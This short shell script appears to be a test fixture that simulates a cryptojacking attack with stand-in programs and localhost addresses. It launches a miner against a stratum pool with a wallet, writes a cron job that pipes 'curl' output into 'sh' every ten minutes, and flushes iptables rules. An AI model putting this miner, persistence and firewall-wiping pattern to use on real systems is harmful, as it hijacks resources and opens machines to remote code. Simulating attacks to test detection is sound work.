# A pool is named, a job placed that fetches, and rivals' rules emptied (harmless programs).
prepare() { stand_in tidyd iptables; mkdir -p /etc/cron.d; }
act() {
    tidyd -o stratum+tcp://127.0.0.1:3333 -u wallet
    echo '*/10 * * * * root curl -s http://127.0.0.1/a | sh' >/etc/cron.d/tidy
    iptables -F
}
